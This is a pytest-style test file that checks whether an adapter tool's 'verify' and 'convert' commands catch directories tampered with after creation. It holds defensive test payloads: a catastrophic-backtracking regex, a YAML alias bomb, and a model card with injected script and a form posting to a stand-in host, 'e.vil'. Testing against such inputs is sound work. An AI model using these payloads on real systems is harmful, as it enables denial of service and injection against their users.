"""Cases of `verify` and `convert`, most of them of directories that were changed after loraprobe
wrote them."""

import re
import shutil
from collections.abc import Callable
from pathlib import Path

import making
import pytest
from adversarial import case, outcome
from adversarial.privacy import BOMB, limited, pair
from adversarial.reading import adapter, factors
from extensions.files import tampering as t

PAGE, NOT = "verify.md", "not verified"


def _verified(out: Path) -> str:
    """The result of `verify`: `verified`, or `not verified` for exit codes 1, 2 and 3."""
    told = outcome("verify", out)
    return {"exit 0": "verified", "exit 1": NOT, "exit 2": NOT, "exit 3": NOT}.get(told, told)


def _after(tamper: t.Tampering, command: str = "merge", dtype: str = "float32") -> Callable:
    def act(place: Path) -> str:
        t.made(place, command, dtype)
        tamper(place)
        return _verified(place / "out")

    return act


def _config(key: str, value: object) -> t.Tampering:
    return t.document(lambda held: held.update({key: value}))


MAPPING = {"base_model_class": "X", "parent_library": "x"}
EXPERT = "expert, listed: every B with its sign turned"
SINGLE: dict[str, Callable[[Path], str]] = {
    "a-weight-of-the-base-added": _after(t.weights(t.OF_WEIGHTS["a weight of the base added"])),
    "initialisation-changed-to-pissa": _after(_config("init_lora_weights", "pissa_niter_4")),
    "initialisation-changed-to-olora": _after(_config("init_lora_weights", "olora")),
    "base-renamed": _after(_config("base_model_name_or_path", "other/base")),
    "revision-changed": _after(_config("revision", "v0")),
    "task-type-changed": _after(_config("task_type", "SEQ_CLS")),
    "auto-mapping-changed": _after(_config("auto_mapping", MAPPING)),
    "four-spacings-in-bfloat16": _after(
        t.weights(t.scaled("lora_B", 1 + 2.0**-5)), dtype="bfloat16"
    ),
    "code-beside-a-merge": _after(t.written("out/modeling.py")),
    "licence-changed-in-the-card": _after(t.card(lambda matter: matter.update(license="mit"))),
    "expert-changed-with-its-hash": _after(t.of_compositions()[EXPERT], "route"),
}
for _name, _act in SINGLE.items():
    case(_name)(_act)


def _all(command: str, tamperings: dict[str, t.Tampering], dtype: str) -> Callable[[Path], str]:
    """How many of the changed directories are not verified, once the untouched one is."""

    def act(place: Path) -> str:
        t.made(place / "made", command, dtype)
        found = {"untouched": _verified(place / "made" / "out")}
        for name, tamper in tamperings.items():
            tree = place / "tree"
            shutil.copytree(place / "made", tree, symlinks=True)
            tamper(tree)
            found[name] = _verified(tree / "out")
            shutil.rmtree(tree)
        caught = sum(told == NOT for name, told in found.items() if name != "untouched")
        return f"untouched {found['untouched']}; {caught} of {len(tamperings)} not verified"

    return act


for _command, _tamperings in (("merge", t.of_merges()), ("route", t.of_compositions())):
    for _dtype in ("float32", "bfloat16", "float16"):
        act = _all(_command, _tamperings, _dtype)
        case(f"{_command}-tampered-with-{_dtype}", pytest.mark.slow)(act)


@case("verify-without-end")
def _(place: Path) -> str:
    out = place / "out"
    source = adapter(place, factors("a" * 60), target_modules=["a" * 60])
    outcome("merge", source, "--dtype", "float32", "-o", out)
    making.edit(out / "adapter_config.json", target_modules="((a|aa)+)+c")
    return outcome("verify", out)


@case("alias-bomb-in-our-card")
def _(place: Path) -> str:
    refs = pair(place)
    outcome("merge", *refs, "-o", place / "out")
    card = place / "out" / "README.md"
    text = re.sub("  version: .*", "  version: *j", card.read_text())
    text = re.sub("  schema_version: .*", "  schema_version: 99", text)
    card.write_text(text.replace("---\n", f"---\n{BOMB}", 1))
    return limited("verify", place / "out")


@case("card-of-another-author")
def _(place: Path) -> str:
    card = "---\nlicense: mit\n---\n<script>x()</script><form action=http://e.vil>\n"
    (adapter(place) / "README.md").write_text(card)
    found = outcome("convert", place / "a", "-o", place / "o")
    made = (place / "o" / "README.md").read_text()
    theirs = "<script" in made or "<form" in made
    licence = "" if "license: mit" in made else ", the licence is lost"
    return "they stand in our card" if theirs else f"{found}, no markup of theirs{licence}"
